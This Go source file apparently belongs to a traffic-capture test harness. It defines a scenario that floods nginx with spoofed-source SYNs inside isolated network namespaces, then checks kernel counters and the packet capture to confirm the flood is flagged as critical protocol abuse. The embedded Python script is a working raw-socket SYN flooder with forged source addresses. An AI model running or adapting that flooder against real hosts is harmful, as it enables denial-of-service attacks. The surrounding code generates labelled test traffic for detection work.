package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strconv"
	"strings"
	"time"
)

// A SYN flood at a real kernel: spoofed SYNs from a raw socket in the
// client's namespace, through the router of nginx-curl-loss's path, to
// nginx in the server's namespace on Linux's defaults (SYN cookies on).
// The server's kernel answers every SYN with a SYN-ACK (from its SYN
// queue while there is room, then with cookies); the router holds a
// blackhole route for the spoofed range, so the SYN-ACKs vanish there
// (no ICMP, no RST) and no handshake completes. curl, from the real
// client address, still gets its pages.

func init() {
	stackTools["nstat"] = stackTool{bin: "nstat", pkg: "iproute2", version: []string{"-V"}}
	stackTools["ss"] = stackTool{bin: "ss", pkg: "iproute2", version: []string{"-V"}}
	addStackScenarios(&scenario{
		name: "nginx-spoofed-syn-flood",
		description: "A SYN flood from spoofed sources at nginx 1.22 on a routed path of three network namespaces (client " +
			"10.77.1.2, router, server 10.77.2.2): a Python raw socket (IP_HDRINCL) in the client's namespace sends 1,500 " +
			"SYNs, each from its own address of 198.18.0.0/15 and its own port, about one a millisecond; the server's " +
			"kernel, on Linux's defaults (tcp_syncookies=1), answers each with a SYN-ACK, from its SYN queue (nginx's " +
			"backlog 511) while there is room, then with SYN cookies, and resends the queued ones' SYN-ACKs a second later. " +
			"The router has a blackhole route for 198.18.0.0/15, so the SYN-ACKs are dropped there and no handshake " +
			"completes. During the flood curl, from the real client address, makes 3 GETs, one connection each: all " +
			"succeed, those made once the SYN queue is full by SYN cookies (nstat: TcpExtSyncookiesRecv). Captured with " +
			"dumpcap on the server's veth.",
		findings: []string{"protocol_abuse"},
		commit:   true,
		tools:    []string{"nginx", "curl", "python3", "ip", "dumpcap", "nstat", "ss"},
		stack:    runNginxSpoofedSYNFlood,
	})
}

// pythonSYNFlood sends N SYNs to HOST:PORT from a raw IPv4 socket with
// IP_HDRINCL: SYN i comes from 198.18.0.0/15 address 198.18.0.0+1+i
// (skipping none: i < 131,000) and port BASE+i, with a random ISN, no
// TCP options, one every GAP seconds. It prints one JSON object a line:
// a sample of the first and last SYNs, then the totals.
const pythonSYNFlood = `import json, random, socket, struct, sys, time
host, port, n, base, gap = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
dst = socket.inet_aton(host)
first = struct.unpack("!I", socket.inet_aton("198.18.0.0"))[0] + 1
sent, sources, ports = 0, set(), set()
t0 = time.monotonic()
for i in range(n):
    src = socket.inet_aton(socket.inet_ntoa(struct.pack("!I", first + i)))
    sport = base + i
    isn = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, port, isn, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    s.sendto(ip + tcp, (host, 0))
    sent += 1
    sources.add(src)
    ports.add(sport)
    if i < 2 or i == n - 1:
        print(json.dumps({"event": "syn", "n": i + 1, "src": socket.inet_ntoa(src), "sport": sport, "isn": isn}), flush=True)
    target = t0 + (i + 1) * gap
    d = target - time.monotonic()
    if d > 0:
        time.sleep(d)
print(json.dumps({"event": "done", "sent": sent, "sources": len(sources), "ports": len(ports),
    "first_src": "198.18.0.1", "last_src": socket.inet_ntoa(struct.pack("!I", first + n - 1)),
    "seconds": round(time.monotonic() - t0, 3)}), flush=True)
`

// nstatCounter matches a line of nstat -az.
var nstatCounter = regexp.MustCompile(`^(\S+)\s+(\d+)`)

// runNginxSpoofedSYNFlood is nginx-spoofed-syn-flood.
func runNginxSpoofedSYNFlood(ctx context.Context, r *stackRun) error {
	const (
		syns  = 1500
		base  = 10000 // the spoofed SYNs' ports: below the ephemeral range curl's come from
		gets  = 3
		spoof = "198.18.0.0/15"
	)
	n, err := newLossNet(ctx, r, false)
	if err != nil {
		return err
	}
	defer n.del(ctx, r)
	r.clientIP = n.clientIP
	// The router: a blackhole for the spoofed range (the SYN-ACKs to it
	// vanish without an ICMP error), and no reverse-path filter, which
	// would drop the spoofed SYNs arriving from the client's side.
	var done []string
	for _, c := range [][]string{
		{"-n", n.rtr, "route", "add", "blackhole", spoof},
		{"netns", "exec", n.rtr, "sysctl", "-qw", "net.ipv4.conf.all.rp_filter=0"},
		{"netns", "exec", n.rtr, "sysctl", "-qw", "net.ipv4.conf." + n.rtrCli + ".rp_filter=0"},
	} {
		if out, err := r.command(ctx, "ip", c).CombinedOutput(); err != nil {
			return fmt.Errorf("ip %s: %v: %s", strings.Join(c, " "), err, out)
		}
		done = append(done, "ip "+strings.Join(c, " "))
	}
	r.report("capgen", "router: blackhole route for the spoofed sources, reverse-path filter off", done)
	cookies, err := r.command(ctx, "ip", []string{"netns", "exec", n.srv, "sysctl", "net.ipv4.tcp_syncookies",
		"net.ipv4.tcp_max_syn_backlog", "net.ipv4.tcp_synack_retries", "net.core.somaxconn"}).CombinedOutput()
	if err != nil {
		return fmt.Errorf("sysctl: %v: %s", err, cookies)
	}
	r.report("sysctl", "server namespace: SYN settings (Linux's defaults, untouched)", lines(cookies))
	if !strings.Contains(string(cookies), "net.ipv4.tcp_syncookies = 1") {
		return fmt.Errorf("server namespace: %s, want tcp_syncookies = 1", cookies)
	}
	if err := r.writeWWW(); err != nil {
		return err
	}
	if _, err := r.writeNginx(ctx, nginxConf{host: n.server}); err != nil {
		return err
	}
	if err := r.startIn(ctx, n.srv, "nginx", "server", r.port, "-p", r.dir, "-c", r.path("nginx.conf")); err != nil {
		return err
	}
	nstat := func(what string) (map[string]int, error) {
		out, err := r.command(ctx, "ip", []string{"netns", "exec", n.srv, "nstat", "-az"}).CombinedOutput()
		if err != nil {
			return nil, fmt.Errorf("nstat: %v: %s", err, out)
		}
		m := map[string]int{}
		var keep []string
		for _, l := range lines(out) {
			if mm := nstatCounter.FindStringSubmatch(l); mm != nil {
				v, _ := strconv.Atoi(mm[2])
				m[mm[1]] = v
				switch mm[1] {
				case "TcpPassiveOpens", "TcpInSegs", "TcpOutSegs", "TcpRetransSegs", "TcpExtSyncookiesSent", "TcpExtSyncookiesRecv",
					"TcpExtSyncookiesFailed", "TcpExtListenOverflows", "TcpExtListenDrops", "TcpExtTCPReqQFullDoCookies",
					"TcpExtTCPReqQFullDrop", "TcpExtTCPTimeouts", "TcpExtTCPSYNChallenge", "TcpActiveOpens", "TcpAttemptFails",
					"TcpOutRsts", "TcpEstabResets":
					keep = append(keep, l)
				}
			}
		}
		r.report("nstat", "server namespace: nstat -az, "+what+" (TCP counters of the SYNs' path)", keep)
		return m, nil
	}
	before, err := nstat("before the flood")
	if err != nil {
		return err
	}
	stop, err := r.startDumpcap(ctx, n)
	if err != nil {
		return err
	}
	if err := os.WriteFile(r.path("synflood.py"), []byte(pythonSYNFlood), 0o644); err != nil {
		stop()
		return err
	}
	type res struct {
		out, errb []byte
		err       error
	}
	ch := make(chan res, 1)
	r.clientNS = n.cli
	go func() {
		out, errb, err := r.runClient(ctx, "python3", nil, r.path("synflood.py"), n.server, strconv.Itoa(r.port),
			strconv.Itoa(syns), strconv.Itoa(base), "0.001")
		ch <- res{out, errb, err}
	}()
	// curl from the real client while the flood goes on: the SYN queue
	// is full by then, so its handshakes complete by SYN cookies.
	var curlErr error
	var curls []curlLine
	for i := range gets {
		if curlErr = sleepCtx(ctx, 350*time.Millisecond); curlErr != nil {
			break
		}
		var ls []curlLine
		ls, curlErr = r.curl(ctx, "during", false, fmt.Sprintf("http://%s:%d/index.html", n.server, r.port))
		if curlErr != nil {
			break
		}
		if len(ls) != 1 || ls[0].status != 200 {
			curlErr = fmt.Errorf("curl %d during the flood: %+v, want one 200", i+1, ls)
			break
		}
		curls = append(curls, ls...)
	}
	c := <-ch
	r.clientNS = ""
	r.report("python3", "raw-socket SYN sender: first and last SYNs, totals (one JSON object a line)", lines(c.out))
	if c.err != nil || curlErr != nil {
		stop()
		if c.err != nil {
			return fmt.Errorf("SYN sender: %v: %s", c.err, c.errb)
		}
		return curlErr
	}
	var sum struct {
		Event   string  `json:"event"`
		Sent    int     `json:"sent"`
		Sources int     `json:"sources"`
		Ports   int     `json:"ports"`
		Seconds float64 `json:"seconds"`
	}
	if ls := lines(c.out); len(ls) > 0 {
		if err := json.Unmarshal([]byte(ls[len(ls)-1]), &sum); err != nil {
			stop()
			return fmt.Errorf("SYN sender line %q: %v", ls[len(ls)-1], err)
		}
	}
	if sum.Event != "done" || sum.Sent != syns || sum.Sources != syns || sum.Ports != syns {
		stop()
		return fmt.Errorf("SYN sender: %+v, want %d SYNs from as many sources and ports", sum, syns)
	}
	// The half-open connections the server still holds.
	recv, err := r.command(ctx, "ip", []string{"netns", "exec", n.srv, "ss", "-Htn", "state", "syn-recv"}).CombinedOutput()
	if err != nil {
		stop()
		return fmt.Errorf("ss: %v: %s", err, recv)
	}
	synRecv := len(lines(recv))
	r.report("ss", "server namespace: ss -Htn state syn-recv right after the flood: "+strconv.Itoa(synRecv)+" half-open connections in the SYN queue", nil)
	// Long enough for the queued connections' first SYN-ACK
	// retransmission (1 s), short of the second (3 s).
	if err := sleepCtx(ctx, 1200*time.Millisecond); err != nil {
		stop()
		return err
	}
	pkts, err := stop()
	if err != nil {
		return err
	}
	r.own = &ownCapture{pkts: pkts, iface: n.srvIf, server: n.server + ":" + strconv.Itoa(r.port)}
	after, err := nstat("after the flood")
	if err != nil {
		return err
	}
	r.stopAll(sigQuit)
	r.curlRequests("during", curls)
	ng, err := r.nginxAccess()
	if err != nil {
		return err
	}
	r.nginxErrors()
	if err := r.checkNginxConns(ng); err != nil {
		return err
	}
	if len(ng) != gets {
		return fmt.Errorf("nginx logged %d requests, want %d", len(ng), gets)
	}
	// The spoofed connections, after curl's.
	for i := range syns {
		id := r.newConn(base+i, "spoofed")
		a := uint32(198)<<24 | 18<<16 + uint32(1+i)
		r.conns[id-1].ip = fmt.Sprintf("%d.%d.%d.%d", a>>24, a>>16&255, a>>8&255, a&255)
	}
	// What the capture holds: SYNs from the spoofed range, SYN-ACKs to
	// it, and nothing else from it.
	var inSYN, outSYNACK, other int
	for _, p := range pkts {
		t, ok := parseTCP(p.data)
		if !ok {
			continue
		}
		switch {
		case t.dst == uint16(r.port) && t.src >= base && t.src < base+syns:
			if t.flags&(flagSYN|flagACK) == flagSYN {
				inSYN++
			} else {
				other++
			}
		case t.src == uint16(r.port) && t.dst >= base && t.dst < base+syns:
			if t.flags&(flagSYN|flagACK) == flagSYN|flagACK {
				outSYNACK++
			} else {
				other++
			}
		}
	}
	delta := func(k string) int { return after[k] - before[k] }
	cookiesSent := delta("TcpExtSyncookiesSent")
	if inSYN != syns || outSYNACK < syns || other != 0 {
		return fmt.Errorf("capture: %d spoofed SYNs, %d SYN-ACKs to them, %d other segments; want %d, %d or more, 0", inSYN, outSYNACK, other, syns, syns)
	}
	if cookiesSent == 0 || synRecv == 0 {
		return fmt.Errorf("server: %d SYN cookies sent, %d connections in SYN-RECV: want both above 0", cookiesSent, synRecv)
	}
	r.fact("syns_sent", sum.Sent)
	r.fact("spoofed_sources", sum.Sources)
	r.fact("syn_acks_in_capture", outSYNACK)
	r.fact("syncookies_sent", cookiesSent)
	r.fact("syncookies_recv", delta("TcpExtSyncookiesRecv"))
	r.fact("reqq_full_do_cookies", delta("TcpExtTCPReqQFullDoCookies"))
	r.fact("listen_overflows", delta("TcpExtListenOverflows"))
	r.fact("listen_drops", delta("TcpExtListenDrops"))
	r.fact("syn_recv_after_flood", synRecv)
	r.fact("passive_opens", delta("TcpPassiveOpens"))
	r.fact("curl_ok", len(curls))
	r.verdictCause("protocol_abuse", "critical", "syn_flood",
		"1,500 SYNs from 1,500 spoofed sources, every one answered by a SYN-ACK that went nowhere: a SYN flood",
		fmt.Sprintf("the raw-socket sender wrote %d SYNs from %d distinct addresses of %s to nginx's port in %.1f s; the "+
			"server's kernel answered every one (%d SYN-ACKs in the capture, the queued ones' resent a second later: "+
			"%d half-open connections in SYN-RECV after the flood, %d SYN cookies sent, nstat), and none completed: the "+
			"router drops everything to the spoofed range. curl's %d GETs from the real client during the flood all "+
			"got 200 (SYN cookies kept the server reachable), but the attack is at scale: critical",
			sum.Sent, sum.Sources, spoof, sum.Seconds, outSYNACK, synRecv, cookiesSent, len(curls)))
	return nil
}
